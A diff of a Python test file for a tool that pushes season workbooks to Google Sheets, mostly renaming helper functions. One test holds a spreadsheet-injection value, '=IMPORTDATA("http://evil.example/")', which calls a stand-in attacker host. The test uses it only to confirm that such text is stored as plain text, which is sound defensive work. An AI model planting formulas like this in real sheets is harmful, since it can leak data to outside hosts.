@@ -56,7 +56,7 @@ def read_back(started: Google) -> Workbook:
 def test_init_makes_every_tab_with_its_headers_a_frozen_row_and_the_studys_zone(google_: Google) -> None:
     result = run("sheet", "init", google_.address)
     assert result.exit_code == 0
-    wanted = template.workbook("ko", "Asia/Seoul")
+    wanted = template.make_template("ko", "Asia/Seoul")
     assert titles(google_) == ["시트1", *(tab.title for tab in wanted.tabs)]
     assert [tab.frozen_rows for tab in google_.spreadsheet.tabs[1:]] == [1] * len(wanted.tabs)
     assert [tab.rows for tab in read_back(google_).tabs[1:]] == [
@@ -101,8 +101,8 @@ def test_init_fills_nothing_that_is_there_and_leaves_the_zone_of_times_alone(goo
 
 @pytest.mark.parametrize("prepared", [False, True])
 def test_push_copies_the_whole_season_and_the_board_is_the_same(google_: Google, prepared: bool) -> None:
-    cells = sample.workbook(NOW)
-    write.write(cells, "season.xlsx")
+    cells = sample.make_sample(NOW)
+    write.write_xlsx(cells, "season.xlsx")
     if prepared:
         run("sheet", "init", google_.address)
     result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
@@ -116,7 +116,7 @@ def test_push_copies_the_whole_season_and_the_board_is_the_same(google_: Google,
 
 
 def test_a_second_push_changes_nothing(google_: Google) -> None:
-    write.write(sample.workbook(NOW), "season.xlsx")
+    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     before, mark = read_back(google_), google_.mark()
     result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
@@ -127,7 +127,7 @@ def test_a_second_push_changes_nothing(google_: Google) -> None:
 
 def test_push_never_touches_the_forms_own_tab(google_: Google) -> None:
     google_.spreadsheet.fill(Workbook((FORM,)))
-    write.write(sample.workbook(NOW), "season.xlsx")
+    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     assert google_.spreadsheet.tab(FORM.title).rows == [list(FORM.rows[0])]
     assert not any(FORM.title in str(each.body) for each in google_.requests if each.kind == "write")
@@ -135,7 +135,9 @@ def test_push_never_touches_the_forms_own_tab(google_: Google) -> None:
 
 def test_texts_that_look_like_formulas_are_pushed_as_texts(google_: Google) -> None:
     evil = '=IMPORTDATA("http://evil.example/")'
-    write.write(seasons.book(members=seasons.tab("members", ("name",), (evil,), ("007",))), "season.xlsx")
+    write.write_xlsx(
+        seasons.book(members=seasons.tab("members", ("name",), (evil,), ("007",))), "season.xlsx"
+    )
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     assert google_.spreadsheet.tab("members").rows[1:] == [[evil], ["007"]]
 
@@ -159,7 +161,7 @@ def test_another_address_than_a_google_sheets_is_refused(google_: Google, comman
 
 
 def test_a_push_that_breaks_off_is_finished_by_the_next_one(google_: Google) -> None:
-    write.write(sample.workbook(NOW), "season.xlsx")
+    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
     google_.on_request = lambda request: (
         google_.fault("503", times=1) if "values:batchUpdate" in request.path else None
     )
@@ -168,7 +170,7 @@ def test_a_push_that_breaks_off_is_finished_by_the_next_one(google_: Google) -> 
     assert "did not confirm" in result.stderr
     google_.on_request = lambda request: None
     assert run("--workbook", "season.xlsx", "sheet", "push", google_.address).exit_code == 0
-    assert len(read_back(google_).tabs[-1].rows) == len(sample.workbook(NOW).tabs[-1].rows)
+    assert len(read_back(google_).tabs[-1].rows) == len(sample.make_sample(NOW).tabs[-1].rows)
 
 
 def test_the_form_script_names_the_sheet_it_is_for(google_: Google) -> None:
@@ -183,14 +185,14 @@ def test_the_form_script_names_the_sheet_it_is_for(google_: Google) -> None:
 
 
 def test_the_form_script_of_another_workbook_is_for_the_sheet_in_which_it_is_pasted(google_: Google) -> None:
-    write.write(seasons.book(), "season.xlsx")
+    write.write_xlsx(seasons.book(), "season.xlsx")
     result = run("--workbook", "season.xlsx", "sheet", "form-script", "--collect-addresses")
     assert '"sheet": null' in result.stdout
     assert '"addresses": true' in result.stdout
 
 
 def test_a_form_without_members_is_refused_in_words(google_: Google) -> None:
-    write.write(seasons.book(members=seasons.tab("members", "name")), "season.xlsx")
+    write.write_xlsx(seasons.book(members=seasons.tab("members", "name")), "season.xlsx")
     result = run("--workbook", "season.xlsx", "sheet", "form-script")
     assert result.exit_code == 2
     assert "no members yet" in result.stderr
@@ -222,7 +224,7 @@ def test_a_month_is_closed_in_a_sheet_that_may_be_written(
     google_: Google, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(clock, "now", lambda: NOW)
-    title, header = layouts.headed(layouts.SETTLEMENTS, "ko")
+    title, header = layouts.write_header(layouts.SETTLEMENTS, "ko")
     google_.spreadsheet.fill(seasons.book(settlements=Tab(title, (header,))))
     result = run("--workbook", google_.address, "close", "2022-04")
     assert result.exit_code == 0, result.output
